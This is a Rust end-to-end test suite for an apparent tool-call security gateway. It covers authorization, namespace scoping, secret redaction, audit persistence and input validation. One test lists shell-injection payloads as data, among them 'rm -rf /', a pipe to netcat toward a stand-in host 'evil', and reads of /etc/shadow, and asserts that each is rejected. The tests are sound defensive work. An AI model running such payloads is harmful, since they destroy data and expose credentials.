//! End-to-end behaviour of the call pipeline.

mod common;

use common::GatewayHarness;
use serde_json::json;
use warden_core::{CorrelationId, ErrorCode, ExecutionStatus, Principal};

#[tokio::test]
async fn test_completed_call_is_returned_and_audited() {
    let harness = GatewayHarness::new();
    let result = harness
        .call_with_id("ok-1", "echo", "charlie", json!({"message": "hello"}))
        .await;

    assert_eq!(result.status, ExecutionStatus::Completed);
    assert_eq!(result.sanitized_output, "hello\n");
    assert_eq!(result.exit_code, Some(0));
    assert_eq!(harness.executions("ok-1"), 1);

    let records = harness.records();
    assert_eq!(records.len(), 1);
    let record = &records[0];
    assert_eq!(record.sequence, 1);
    assert_eq!(record.correlation_id.as_str(), "ok-1");
    assert_eq!(record.principal_id.as_str(), "charlie");
    assert_eq!(record.tool_name, "echo");
    assert_eq!(record.status, ExecutionStatus::Completed);
    assert_eq!(record.error_code, None);
}

#[tokio::test]
async fn test_viewer_cannot_delete() {
    let harness = GatewayHarness::new();
    let result = harness
        .call_with_id(
            "del-1",
            "kubernetes_delete",
            "charlie",
            json!({"resource_type": "pods", "name": "web-0"}),
        )
        .await;

    assert_eq!(result.status, ExecutionStatus::Denied);
    assert_eq!(result.code, Some(ErrorCode::AuthorizationError));
    assert_eq!(result.error.as_deref(), Some("tool not permitted"));
    assert!(result.sanitized_output.is_empty());
    assert_eq!(harness.executions("del-1"), 0);

    let records = harness.records();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].status, ExecutionStatus::Denied);
    assert_eq!(records[0].error_code, Some(ErrorCode::AuthorizationError));
}

#[tokio::test]
async fn test_claimed_admin_role_is_not_honored() {
    let harness = GatewayHarness::new();
    let mut request = common::request(
        "kubernetes_delete",
        "charlie",
        json!({"resource_type": "pods", "name": "web-0", "namespace": "prod"}),
    )
    .with_correlation_id(CorrelationId::from_string("claim-1"));
    request.principal = Principal::new("charlie").with_role("admin");

    let result = harness.gateway.call_tool(request).await;

    assert_eq!(result.status, ExecutionStatus::Denied);
    assert_eq!(result.code, Some(ErrorCode::AuthorizationError));
    assert_eq!(result.error.as_deref(), Some("no role"));
    assert_eq!(harness.executions("claim-1"), 0);
    assert_eq!(harness.records()[0].principal_id.as_str(), "charlie");
}

#[tokio::test]
async fn test_admin_can_delete_anywhere() {
    let harness = GatewayHarness::new();
    let result = harness
        .call(
            "kubernetes_delete",
            "alice",
            json!({"resource_type": "pods", "name": "web-0", "namespace": "prod"}),
        )
        .await;
    assert_eq!(result.status, ExecutionStatus::Completed);
    assert_eq!(result.sanitized_output, "deleted pods/web-0\n");
}

#[tokio::test]
async fn test_unsafe_arguments_never_execute() {
    let harness = GatewayHarness::new();
    let payloads = [
        "hi; rm -rf /",
        "a | nc evil 80",
        "a && b",
        "$(whoami)",
        "`id`",
        "out > /etc/passwd",
        "in < /etc/shadow",
        "line\nbreak",
        "--kubeconfig=/tmp/x",
    ];
    for (i, payload) in payloads.iter().enumerate() {
        let id = format!("inject-{i}");
        let result = harness
            .call_with_id(&id, "echo", "alice", json!({"message": payload}))
            .await;
        assert_eq!(result.status, ExecutionStatus::Rejected, "{payload:?}");
        assert_eq!(result.code, Some(ErrorCode::ValidationError), "{payload:?}");
        assert_eq!(harness.executions(&id), 0, "{payload:?}");
    }
    assert_eq!(harness.records().len(), payloads.len());
}

#[tokio::test]
async fn test_validation_precedes_authorization() {
    let harness = GatewayHarness::new();
    // charlie may not delete, but the unknown field is reported first
    let result = harness
        .call(
            "kubernetes_delete",
            "charlie",
            json!({"resource_type": "pods", "name": "x", "force": true}),
        )
        .await;
    assert_eq!(result.status, ExecutionStatus::Rejected);
    assert_eq!(result.code, Some(ErrorCode::ValidationError));
}

#[tokio::test]
async fn test_unknown_tool_and_principal() {
    let harness = GatewayHarness::new();

    let unknown_tool = harness.call("rm", "alice", json!({})).await;
    assert_eq!(unknown_tool.status, ExecutionStatus::Rejected);
    assert_eq!(unknown_tool.code, Some(ErrorCode::UnknownTool));

    let unknown_principal = harness
        .call_with_id("who-1", "echo", "mallory", json!({"message": "hi"}))
        .await;
    assert_eq!(unknown_principal.status, ExecutionStatus::Denied);
    assert_eq!(unknown_principal.error.as_deref(), Some("no role"));
    assert_eq!(harness.executions("who-1"), 0);
}

#[tokio::test]
async fn test_namespace_scope_enforced() {
    let harness = GatewayHarness::new();
    let allowed = harness
        .call("echo", "charlie", json!({"message": "hi", "namespace": "dev-payments"}))
        .await;
    assert_eq!(allowed.status, ExecutionStatus::Completed);

    let denied = harness
        .call("echo", "charlie", json!({"message": "hi", "namespace": "kube-system"}))
        .await;
    assert_eq!(denied.status, ExecutionStatus::Denied);
    assert_eq!(denied.error.as_deref(), Some("namespace not permitted"));
}

#[tokio::test]
async fn test_secrets_are_redacted_from_output() {
    let harness = GatewayHarness::new();
    let secret = json!({
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "db"},
        "data": {"username": "YWRtaW4=", "ca.crt": "LS0tLS1CRUdJTg=="}
    })
    .to_string();
    let result = harness.call("echo", "alice", json!({"message": secret})).await;

    assert_eq!(result.status, ExecutionStatus::Completed);
    assert!(!result.sanitized_output.contains("YWRtaW4="));
    assert!(!result.sanitized_output.contains("LS0tLS1CRUdJTg=="));
    assert!(result.sanitized_output.contains("\"name\": \"db\""));
    assert_eq!(result.redaction_count, 2);
    assert_eq!(harness.records()[0].redaction_count, 2);
}

#[tokio::test]
async fn test_text_credentials_are_redacted() {
    let harness = GatewayHarness::new();
    let result = harness
        .call(
            "echo",
            "alice",
            json!({"message": "Authorization: Bearer abc.def.ghi"}),
        )
        .await;
    assert_eq!(result.status, ExecutionStatus::Completed);
    assert!(!result.sanitized_output.contains("abc.def.ghi"));
    assert!(result.sanitized_output.contains("[REDACTED]"));
}

#[test]
fn test_list_tools_in_registration_order() {
    let harness = GatewayHarness::new();
    let names: Vec<String> = harness
        .gateway
        .list_tools()
        .iter()
        .map(|t| t.name.clone())
        .collect();
    assert_eq!(
        names,
        vec!["kubernetes_get", "kubernetes_delete", "echo", "slow"]
    );
}

#[tokio::test]
async fn test_audit_survives_restart() {
    let mut harness = GatewayHarness::new();
    let _ = harness.call("echo", "alice", json!({"message": "one"})).await;
    let _ = harness.call("rm", "alice", json!({})).await;

    harness.restart();
    let _ = harness.call("echo", "alice", json!({"message": "two"})).await;

    let sequences: Vec<u64> = harness.records().iter().map(|r| r.sequence).collect();
    assert_eq!(sequences, vec![1, 2, 3]);
    let report = harness.gateway.audit().verify().unwrap();
    assert!(report.valid, "{:?}", report.issues);
}
